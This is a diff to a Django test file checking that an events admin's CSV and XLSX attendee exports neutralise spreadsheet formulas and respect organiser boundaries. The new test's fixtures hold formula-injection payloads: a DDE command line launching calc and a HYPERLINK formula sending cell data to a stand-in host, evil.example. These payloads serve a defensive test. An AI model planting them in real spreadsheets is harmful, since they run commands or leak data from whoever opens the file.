@@ -1,8 +1,6 @@
 """The events admin: the attendees CSV cannot carry spreadsheet formulas; calendar feeds
 can be filtered."""
 
-import csv
-import io
 from datetime import timedelta
 
 import pytest
@@ -10,6 +8,7 @@ import time_machine
 from django.utils import timezone
 
 from tests.factories import MemberFactory, OrganisationFactory
+from tests.spreadsheets import assert_same_rows_formulas_neutralised, csv_rows, xlsx_rows
 
 from .factories import BookingFactory, CalendarFeedFactory, EventFactory
 
@@ -29,8 +28,7 @@ def test_attendees_csv_neutralises_formulas(client, manager, provider):
     response = client.post(
         "/admin/events/event/", {"action": "export_attendees", "_selected_action": [event.pk]}
     )
-    assert response["Content-Type"].startswith("text/csv")
-    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    rows = csv_rows(response)
     assert rows[0][:3] == ["event", "starts", "name"]
     by_name = {row[2]: row for row in rows[1:]}
     evil = by_name["'" + member.full_name]
@@ -188,6 +186,37 @@ def test_the_confirmation_costs_one_count_per_event_and_no_more(client, manager,
         return len(captured.captured_queries)
 
     assert queries(events) == queries(events[:1]) + 4
+
+
+def test_attendees_as_xlsx_the_same_rows_without_formulas(client, manager, provider):
+    event = EventFactory(organiser=provider, title="=cmd|' /C calc'!A0")
+    member = MemberFactory(
+        full_name='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+        profile__organisation=OrganisationFactory(name="Łódź +Barts Health NHS Trust"),
+    )
+    BookingFactory(event=event, member=member)
+    BookingFactory(event=event, member=MemberFactory(full_name="Łucja Nowak-Śliwińska"))
+    client.force_login(manager)
+
+    def export(action):
+        return client.post(
+            "/admin/events/event/",
+            {"action": action, "_selected_action": [event.pk]},
+        )
+
+    rows = assert_same_rows_formulas_neutralised(
+        export("export_attendees"), export("export_attendees_xlsx")
+    )
+    names = {row[2] for row in rows[1:]}
+    assert names == {member.full_name, "Łucja Nowak-Śliwińska"}
+    # Another organiser's event is not the manager's to export, in either format.
+    other = BookingFactory(event=EventFactory(), member=MemberFactory(full_name="Not Theirs"))
+    for action in ["export_attendees", "export_attendees_xlsx"]:
+        response = client.post(
+            "/admin/events/event/", {"action": action, "_selected_action": [other.event.pk]}
+        )
+        rows = xlsx_rows(response) if action.endswith("xlsx") else csv_rows(response)
+        assert rows == rows[:1] and rows[0][2] == "name"  # the header only
 
 
 # A refusal in an admin save: an error on the form, never "changed successfully", and
